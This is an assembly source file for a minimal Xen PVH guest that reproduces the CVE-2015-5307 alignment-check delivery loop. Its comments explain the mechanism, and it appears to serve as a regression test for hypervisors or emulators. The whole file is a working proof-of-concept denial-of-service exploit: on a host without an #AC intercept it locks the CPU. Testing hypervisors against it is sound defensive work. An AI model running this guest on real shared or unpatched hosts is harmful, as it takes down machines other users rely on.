; SPDX-License-Identifier: Apache-2.0
; acloop: the #AC delivery loop of CVE-2015-5307, in 32-bit protected mode
; (64-bit mode aligns the stack before delivering, so it cannot loop).
;
; The #AC gate leads to a conforming code segment: delivery keeps CPL 3 and
; pushes onto the current, misaligned CPL-3 stack with EFLAGS.AC and CR0.AM
; set, which raises #AC again, and again, before any instruction of the
; handler.  Without an #AC intercept the CPU never comes back.  The guest
; needs no runtime: it prints with OUT to COM1 (IOPL 3) and never returns.

bits 32

COM1 equ 0x3f8
CR0_AM equ 1 << 18
EFL_AC equ 1 << 18
EFL_IOPL3 equ 3 << 12

KCODE equ 0x08
KDATA equ 0x10
UCODE equ 0x18 | 3
UDATA equ 0x20 | 3
CCODE equ 0x28          ; conforming code, DPL 0

section .note.pvh note alloc noexec nowrite align=4
	dd 4, 4, 18
	db "Xen", 0
	dd pvh_start

section .text.entry progbits alloc exec nowrite align=16
global pvh_start
pvh_start:
	cli
	lgdt [gdt_ptr]
	jmp KCODE:.flat
.flat:
	mov ax, KDATA
	mov ds, ax
	mov es, ax
	mov ss, ax
	mov esp, kstack_top
	mov esi, msg_start
	call puts

	; IDT vector 17 (#AC): 32-bit interrupt gate to the conforming segment.
	mov eax, ac_handler
	mov [idt + 17 * 8], ax
	mov word [idt + 17 * 8 + 2], CCODE
	mov word [idt + 17 * 8 + 4], 0x8e00
	shr eax, 16
	mov [idt + 17 * 8 + 6], ax
	lidt [idt_ptr]

	mov eax, cr0
	or eax, CR0_AM
	mov cr0, eax

	; To CPL 3 with AC set and a stack pointer that is not 4-byte aligned.
	push UDATA
	push ustack_top - 1
	push EFL_AC | EFL_IOPL3 | 2
	push UCODE
	push user
	iret

user:
	mov ax, UDATA
	mov ds, ax
	mov es, ax
	mov eax, [misaligned + 1]       ; the first #AC
	; Only a CPU or emulator without alignment checks gets here.
	mov esi, msg_no_ac
	call puts
.spin:
	pause
	jmp .spin

; Never reached while the loop goes on: every delivery faults first.
ac_handler:
	mov esi, msg_handler
	call puts
.halt:
	jmp .halt

puts:
	mov dx, COM1
.next:
	lodsb
	test al, al
	jz .done
	out dx, al
	jmp .next
.done:
	ret

section .data
align 8
gdt:
	dq 0
	dq 0x00cf9a000000ffff   ; 0x08 code, DPL 0
	dq 0x00cf92000000ffff   ; 0x10 data, DPL 0
	dq 0x00cffa000000ffff   ; 0x18 code, DPL 3
	dq 0x00cff2000000ffff   ; 0x20 data, DPL 3
	dq 0x00cf9e000000ffff   ; 0x28 code, DPL 0, conforming
gdt_end:
gdt_ptr:
	dw gdt_end - gdt - 1
	dd gdt
idt_ptr:
	dw 256 * 8 - 1
	dd idt
misaligned:
	dd 0, 0
msg_start:   db "looping on #AC (conforming handler, misaligned CPL 3 stack)", 10, 0
msg_no_ac:   db "no #AC: alignment checks are not modelled", 10, 0
msg_handler: db "#AC handler ran: no loop", 10, 0

section .bss
alignb 16
idt:         resb 256 * 8
kstack:      resb 4096
kstack_top:
ustack:      resb 4096
ustack_top:
